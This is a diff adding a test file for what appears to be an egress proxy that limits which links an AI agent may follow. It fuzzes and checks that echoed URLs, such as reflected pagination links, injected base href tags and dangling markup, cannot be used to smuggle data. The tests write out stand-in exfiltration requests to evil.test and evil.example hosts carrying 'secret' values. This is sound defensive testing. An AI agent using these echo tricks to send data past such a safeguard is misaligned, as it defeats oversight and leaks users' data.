@@ -1,0 +1,93 @@
+// Echoes that run on: a URL the agent wrote comes back followed by text of the answer's own with
+// nothing to end it — a pagination link `/s?q=<the URL>&page=2` (its query not escaped, so the URL
+// is found in the attribute), a JSON `next` value, a sort link in text, a `<base href>` the page
+// reflected (its relative links resolve under the agent's URL), an attribute the agent left open
+// (dangling markup). The link found then holds the agent's URL *and more*, so its letters were not
+// all in the request, and the echo check recorded it: the agent followed `…?d=<data>&page=2`.
+// Property-based over the agent's URL × how the answer runs on from it × the suffix; then through
+// a real Airlock with curl.
+import http from 'node:http';
+import fc from 'fast-check';
+import t from 'tap';
+import { LinkScanner, echoedBy, pageSkeleton, requestSkeletons, type LinkFormat } from '../../describe/links.ts';
+import { tempDir } from '../temp-dir.ts';
+import { policyCopy, startSessionAirlock, testConfig, viaCurl } from '../sessions/helpers.ts';
+
+const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 300);
+const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
+
+const word = fc.stringMatching(/^[A-Za-z0-9]{3,10}$/);
+const leakUrl = fc.record({
+  scheme: fc.constantFrom('http', 'https'),
+  host: fc.tuple(word, fc.constantFrom('evil.example', 'x.test')).map(([a, b]) => `${a}.${b}`),
+  path: fc.array(word, { minLength: 0, maxLength: 2 }),
+  query: fc.array(fc.tuple(word, word), { maxLength: 2 }),
+}).map((u) => `${u.scheme}://${u.host}/${u.path.join('/')}${u.query.length ? `?${u.query.map(([k, v]) => `${k}=${v}`).join('&')}` : ''}`);
+/** What the answer writes right after the echo. */
+const suffix = fc.oneof(
+  fc.tuple(fc.constantFrom('&page=', '&offset=', '&sort=', '/', '/page/', '?p=', '#x', '&amp;start='), word).map(([a, b]) => a + b),
+  fc.constantFrom('</p><a href=', '</b></p>', '&lang=en'),
+);
+const shapes = ['html-pagination', 'html-base', 'html-dangling', 'json-next', 'text-sort'] as const;
+const served = 'https://blog.example/posts/2024/review';
+
+function answer(shape: (typeof shapes)[number], url: string, more: string): { format: LinkFormat; body: string; q: string } {
+  switch (shape) {
+    case 'html-pagination': return { format: 'html', q: url, body: `<p>Results for ${url}</p><a href="${served}">r</a><a href="/s?q=${url}${more}">next</a>` };
+    case 'html-base': return { format: 'html', q: `<base href="${url}/">`, body: `<p>Results for <base href="${url}/"></p><a href="${more.replace(/^[&?#/]+/, '') || 'x'}">more</a><a href="${served}">r</a>` };
+    case 'html-dangling': return { format: 'html', q: `<a href="${url}`, body: `<p>Results for <a href="${url}${more}</p><p>"x</a><a href="${served}">r</a>` };
+    case 'json-next': return { format: 'json', q: url, body: JSON.stringify({ query: url, results: [{ url: served }], next: `/s?q=${url}${more}` }) };
+    default: return { format: 'text', q: url, body: `results for ${url}\nresult: ${served}\nsorted: /s?q=${url}${more}\n` };
+  }
+}
+
+t.test('an echo the answer runs on from is not recorded, whatever follows it (property)', async () => {
+  fc.assert(fc.property(leakUrl, fc.constantFrom(...shapes), suffix, fc.constantFrom('query', 'header'), (url, shape, more, where) => {
+    const { format, body, q } = answer(shape, url, more);
+    const pathAndQuery = where === 'query' ? `/s?q=${encodeURIComponent(q)}` : '/s?q=news';
+    const headers: Array<[string, string]> = where === 'header' ? [['x-query', q]] : [];
+    const page = `https://search.example${pathAndQuery}`;
+    const scanner = new LinkScanner(format, page);
+    scanner.write(body);
+    const sent = requestSkeletons({ pathAndQuery, headers, summary: { truncated: false } });
+    if (!sent) return false;
+    const host = new URL(url).hostname;
+    const links = scanner.end().filter((u) => !echoedBy(u, sent, scanner.spellingsOf(u), pageSkeleton(page)));
+    return links.includes(served) && !links.some((l) => new URL(l).hostname === host);
+  }), { numRuns, ...seed });
+});
+
+t.test('through the real proxy: pagination and reflected-base links that run on from an echo are not followable', async (t) => {
+  const all: Array<{ host: string; url: string }> = [];
+  let port = 0;
+  const server = http.createServer((req, res) => {
+    const host = (req.headers.host ?? '').split(':')[0]!;
+    all.push({ host, url: req.url ?? '' });
+    req.resume();
+    if (host === 'search.test') {
+      // A search page that writes its query back raw: in the text and in its pagination link.
+      const q = new URL(req.url ?? '/', 'http://x').searchParams.get('q') ?? '';
+      res.setHeader('content-type', 'text/html; charset=utf-8');
+      res.end(`<p>Results for ${q}</p><a href="related">related</a> <a href="http://blog.test:${port}/post?id=4">result</a> <a href="/s?q=${q}&amp;page=2">next</a>`);
+    } else {
+      res.setHeader('content-type', 'text/plain');
+      res.end(`ok ${host}`);
+    }
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  port = (server.address() as { port: number }).port;
+  t.teardown(() => new Promise<void>((r) => { server.closeAllConnections(); server.close(() => r()); }));
+  const web = { port, hits: [], origin: (h: string) => `http://${h}:${port}` };
+  const airlock = await startSessionAirlock(t, tempDir(t, 'al-runon-'), policyCopy(t, { config: { ...testConfig.config, labels: { hosts: { 'search.test': [] } } } }), web);
+  const agent = await airlock.agents.add('bot');
+  const proxy = airlock.proxyUrl('bot', agent.token);
+
+  const evil = `http://evil.test:${port}/x?d=secret1`;
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(evil)}`)).status, 200);
+  t.equal((await viaCurl(proxy, 'GET', `${evil}&page=2`)).status, 403, 'the pagination link that runs on from the echo is not followable');
+  const base = `<base href="http://evil.test:${port}/secret2/">`;
+  t.equal((await viaCurl(proxy, 'GET', `${web.origin('search.test')}/s?q=${encodeURIComponent(base)}`)).status, 200);
+  t.equal((await viaCurl(proxy, 'GET', `http://evil.test:${port}/secret2/related`)).status, 403, 'a relative link under a reflected base is not followable');
+  t.notOk(all.some((h) => h.host === 'evil.test'), 'evil.test received nothing');
+  t.equal((await viaCurl(proxy, 'GET', `http://blog.test:${port}/post?id=4`)).status, 200, 'the result the page chose is followed');
+});
